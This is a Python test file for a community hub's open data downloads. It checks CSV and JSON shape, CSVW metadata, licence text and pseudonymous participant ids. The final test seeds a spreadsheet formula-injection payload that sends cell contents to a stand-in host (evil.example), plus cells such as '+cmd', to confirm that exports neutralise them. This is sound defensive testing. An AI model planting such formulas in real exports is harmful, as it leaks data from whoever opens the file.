"""Open data downloads: CSV and JSON shape, CSVW metadata, pseudonyms, licence, no personal data."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.hub.web.sitekit import HOSTILE, small_site


@pytest.fixture(scope="module")
def site(hub_db_shared, tmp_path_factory):
    return small_site(hub_db_shared)


@pytest.fixture(scope="module")
def client(site):
    return site.client()


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["link"] == ('</data/v1/csv-metadata.json>; rel="describedby";'
                                        ' type="application/csvm+json"')
    assert "\r\n" in response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_data_page_links_every_download_and_states_the_licence(client):
    page = client.get("/data")
    assert page.status_code == 200
    for name in ("events", "event-roles", "participation"):
        assert f'href="/data/v1/{name}.csv"' in page.text
        assert f'href="/data/v1/{name}.json"' in page.text
    assert 'href="/data/v1/csv-metadata.json"' in page.text
    assert "Open Government Licence v3.0" in page.text


def test_events_csv(client, site):
    rows = read_csv(client.get("/data/v1/events.csv"))
    assert [r["id"] for r in rows] == [site.events[k] for k in ("hack", "spring", "summer", "future")]
    spring = rows[1]
    assert spring["people_present"] == "4" and spring["first_timers"] == "3"
    assert spring["volunteers"] == "1" and spring["openness_stars"] == "3"
    assert spring["openness_ticks"] == "agenda hashtag live ongoing"
    assert spring["after_venue"] == "The Fox & Hounds" and spring["cost_gbp"] == "600.0"
    assert rows[3]["people_present"] == "0" and rows[3]["name"] == "Autumn camp; with, commas"


def test_event_roles_csv_counts_people_per_role(client, site):
    rows = read_csv(client.get("/data/v1/event-roles.csv"))
    summer = {r["role"]: r["people"] for r in rows if r["event_id"] == site.events["summer"]}
    assert summer == {"attend": "3", "organise": "1", "tidy": "1"}


def test_participation_is_pseudonymous(client, site):
    first = client.get("/data/v1/participation.csv")
    rows = read_csv(first)
    assert len(rows) == 1 + 4 + 1 + 3 + 2  # hack; spring attend ×4 + cake; summer attend ×3 + 2 roles
    text = first.text
    for badge in site.badges.values():
        assert badge not in text
    assert "Bob" not in text and "Cat" not in text and "@" not in text
    names = {r["name"] for r in rows}
    assert names == {"Ann Abbott", HOSTILE, ""}  # only people who chose their full name
    ids = {r["person_id"] for r in rows}
    assert len(ids) == 4 and all(i.startswith("p-") for i in ids)
    # The same person keeps the same random id in every download.
    again = read_csv(client.get("/data/v1/participation.csv"))
    assert [(r["person_id"], r["event_id"], r["role"]) for r in again] == \
        [(r["person_id"], r["event_id"], r["role"]) for r in rows]


def test_json_downloads_carry_the_licence_and_the_same_rows(client):
    for name in ("events", "event-roles", "participation"):
        body = client.get(f"/data/v1/{name}.json")
        assert body.status_code == 200 and body.headers["content-type"] == "application/json"
        data = body.json()
        assert data["licence"]["name"] == "Open Government Licence v3.0"
        assert data["licence"]["url"].startswith("https://www.nationalarchives.gov.uk/")
        assert len(data["rows"]) == len(read_csv(client.get(f"/data/v1/{name}.csv")))
    events = client.get("/data/v1/events.json").json()["rows"]
    assert events[1]["people_present"] == 4 and events[1]["cost_gbp"] == 600.0


def test_csvw_metadata_describes_every_csv(client):
    response = client.get("/data/v1/csv-metadata.json")
    assert response.headers["content-type"].startswith("application/csvm+json")
    meta = json.loads(response.text)
    assert meta["@context"][0] == "http://www.w3.org/ns/csvw"
    assert meta["dc:license"]["@id"].startswith("https://www.nationalarchives.gov.uk/")
    assert len(meta["tables"]) == 3
    for table in meta["tables"]:
        assert table["url"].startswith("http://testserver/data/v1/") and table["url"].endswith(".csv")
        path = table["url"].removeprefix("http://testserver")
        header = client.get(path).text.split("\r\n", 1)[0].split(",")
        columns = table["tableSchema"]["columns"]
        assert [c["name"] for c in columns] == header
        assert all(c["datatype"] in {"string", "date", "anyURI", "nonNegativeInteger", "decimal"}
                   for c in columns)
        assert set(table["tableSchema"]["primaryKey"]) <= set(header)
        for key in table["tableSchema"].get("foreignKeys", []):
            assert key["columnReference"] in header


def test_the_licence_is_configurable(hub_db, tmp_path):
    site = small_site(hub_db, licence_name="CC BY 4.0",
                      licence_url="https://creativecommons.org/licenses/by/4.0/")
    client = site.client()
    assert client.get("/data/v1/events.json").json()["licence"]["name"] == "CC BY 4.0"
    assert "CC BY 4.0" in client.get("/data").text
    meta = client.get("/data/v1/csv-metadata.json").json()
    assert meta["dc:license"]["@id"] == "https://creativecommons.org/licenses/by/4.0/"


def test_unknown_dataset_is_404(client):
    assert client.get("/data/v1/people.csv").status_code == 404
    assert client.get("/data/v2/events.csv").status_code == 404


def test_csv_cells_a_spreadsheet_would_run_are_defused_like_the_admin_export(hub_db, tmp_path):
    from tests.hub.web.sitekit import Scanner
    site = small_site(hub_db)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
    mallory = site.store.add_person(formula, consent="full")  # chose to be shown by full name
    event = site.store.add_event("@SUM(1+1)", "2025-05-01", venue="-2+3", hashtag="+cmd")
    Scanner(site.store).scan(event.id, mallory.badge)
    client = site.client()
    named = [r for r in read_csv(client.get("/data/v1/participation.csv")) if r["event_id"] == event.id]
    assert [r["name"] for r in named] == ["'" + formula]
    [row] = [r for r in read_csv(client.get("/data/v1/events.csv")) if r["id"] == event.id]
    assert (row["name"], row["venue"], row["hashtag"]) == ("'@SUM(1+1)", "'-2+3", "'+cmd")
    assert row["people_present"] == "1"  # numbers are numbers, not text with a quote
    # JSON is not opened by spreadsheets: it carries the name exactly as stored.
    rows = client.get("/data/v1/participation.json").json()["rows"]
    assert [r["name"] for r in rows if r["event_id"] == event.id] == [formula]
